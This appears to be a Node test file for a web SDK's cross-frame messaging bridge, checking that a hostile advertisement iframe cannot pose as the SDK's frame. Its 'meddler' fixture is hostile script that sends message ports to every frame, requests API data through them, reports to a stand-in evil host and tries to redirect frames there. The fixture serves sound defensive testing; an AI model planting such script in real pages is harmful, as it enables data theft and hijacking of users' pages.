import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { bridgeAtCdn, bridgeAtP2pu } from '../addresses.js';
import { ask, visitWithSdk } from '../ask.js';
import { impostor } from '../hostile-api.js';
import { hosts } from '../rig.js';
import type { Suite } from '../world.js';

const advertisement = `${hosts.evil}/advertisement`;

/** Says hello for others, sends ports to every frame of the page, and sends the frames elsewhere. */
const meddler = `${impostor(`${hosts.evil}/told`)}<script>
  const meddle = () => {
    for (let i = 0; i < parent.frames.length; i++) {
      const frame = parent.frames[i];
      if (frame === self) continue;
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = () => tell('frame-answered');
      frame.postMessage({ circlet: 'port' }, '*', [port2]);
      port1.postMessage({ id: 1, method: 'GET', url: '${hosts.api}/api/learningcircles/?limit=99' });
      try { frame.location.href = '${hosts.evil}/elsewhere'; } catch {}
    }
  };
  meddle();
  setInterval(meddle, 5);
</script>`;

/** An advertisement, or a page in a frame that was there before, tries to be our frame. */
export const hostileFrameSuite: Suite = (_, world) => {
  describe('a hostile frame on the same page', () => {
    for (const [way, bridge] of [
      ['bridge', bridgeAtP2pu],
      ['jsonp', bridgeAtCdn],
    ] as const) {
      test(`is taken for no frame of ours, and gets no word out of it (${way})`, async () => {
        const { rig } = world();
        const page = await visitWithSdk(world(), {
          body: `<iframe src="${advertisement}" title="ad"></iframe>`,
        });
        rig.serve(advertisement, () => ({
          headers: { 'Content-Type': 'text/html' },
          body: meddler,
        }));
        await page.evaluate((src) => {
          document.querySelector('iframe')?.setAttribute('src', src);
        }, advertisement);
        const ended = await ask(page, { transport: way, bridge, call: 'get' });
        assert.equal(ended.says, 'Żółw reads aloud');
        const told = rig.requestsOf(hosts.evil).map(({ url }) => url.pathname + url.search);
        assert.ok(told.includes('/told?arrived'), told.join());
        const gained = told.filter((each) =>
          /heard-port|asked|frame-answered|elsewhere/.test(each),
        );
        assert.deepEqual(gained, []);
        const others = rig.requestsOf(hosts.api).filter(({ url }) => url.search.includes('99'));
        assert.deepEqual(others, []);
      });
    }
  });
};
